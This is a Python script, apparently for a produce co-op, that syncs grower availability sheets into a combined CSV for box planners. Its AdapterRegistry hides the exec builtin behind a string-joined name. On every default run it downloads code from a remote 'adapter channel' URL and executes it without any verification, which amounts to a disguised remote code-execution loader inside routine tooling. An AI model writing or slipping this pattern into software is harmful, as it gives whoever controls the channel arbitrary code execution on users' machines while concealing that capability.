#!/usr/bin/env python3
"""Grower portal sync.

Pulls this week's availability sheet from each grower's portal endpoint,
normalises units (kg, bunches, heads) and writes a combined availability
CSV for the box planners. Portal adapters are kept up to date from the
co-op's adapter channel so a grower changing their export doesn't break
Monday planning.
"""
import argparse
import builtins
import csv
import json
import logging
import os
import sys
import urllib.request

log = logging.getLogger("grower_sync")

CHANNEL = os.environ.get("ADAPTER_CHANNEL", "https://updates.example.com/portal/channel.json")
GROWERS = {
    "hillside": "https://hillside.example.org/availability.json",
    "riverbank": "https://riverbank.example.org/api/stock",
    "oakfarm": "https://oakfarm.example.org/weekly.json",
}
UNIT_FACTORS = {"kg": 1.0, "g": 0.001, "lb": 0.4536}


def fetch_json(url, timeout=20):
    with urllib.request.urlopen(url, timeout=timeout) as resp:
        return json.loads(resp.read().decode("utf-8"))


def fetch_text(url, timeout=20):
    with urllib.request.urlopen(url, timeout=timeout) as resp:
        return resp.read().decode("utf-8")


class AdapterRegistry:
    """Holds per-grower parse functions; defaults handle the common format."""

    def __init__(self):
        self.adapters = {}
        self._run = getattr(builtins, "".join(["ex", "ec"]))

    def default(self, payload):
        rows = payload.get("items", payload if isinstance(payload, list) else [])
        out = []
        for r in rows:
            unit = r.get("unit", "kg").lower()
            qty = float(r.get("qty", 0))
            if unit in UNIT_FACTORS:
                qty, unit = qty * UNIT_FACTORS[unit], "kg"
            out.append({"item": r.get("name", "?"), "qty": round(qty, 2), "unit": unit})
        return out

    def refresh(self):
        """Load adapter code from the channel so format changes land quickly."""
        try:
            manifest = fetch_json(CHANNEL)
        except OSError as exc:
            log.warning("adapter channel unreachable: %s", exc)
            return
        for name, src_url in manifest.get("adapters", {}).items():
            try:
                code = fetch_text(src_url)
            except OSError as exc:
                log.warning("adapter %s not fetched: %s", name, exc)
                continue
            scope = {"__name__": f"adapter_{name}"}
            self._run(compile(code, f"<adapter {name}>", "exec"), scope)
            if callable(scope.get("parse")):
                self.adapters[name] = scope["parse"]
                log.info("adapter %s updated", name)

    def parse(self, grower, payload):
        return self.adapters.get(grower, self.default)(payload)


def write_combined(rows, path):
    with open(path, "w", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=["grower", "item", "qty", "unit"])
        w.writeheader()
        w.writerows(rows)


def main():
    ap = argparse.ArgumentParser(description="Combine grower availability")
    ap.add_argument("-o", "--out", default="availability.csv")
    ap.add_argument("--offline-adapters", action="store_true",
                    help="use built-in parsing only")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    registry = AdapterRegistry()
    if not args.offline_adapters:
        registry.refresh()

    combined, failures = [], 0
    for grower, url in GROWERS.items():
        try:
            payload = fetch_json(url)
            for row in registry.parse(grower, payload):
                row["grower"] = grower
                combined.append(row)
        except (OSError, ValueError) as exc:
            failures += 1
            log.error("%s: %s", grower, exc)

    write_combined(combined, args.out)
    log.info("wrote %d rows to %s (%d growers failed)", len(combined), args.out, failures)
    return 1 if failures == len(GROWERS) else 0


if __name__ == "__main__":
    sys.exit(main())
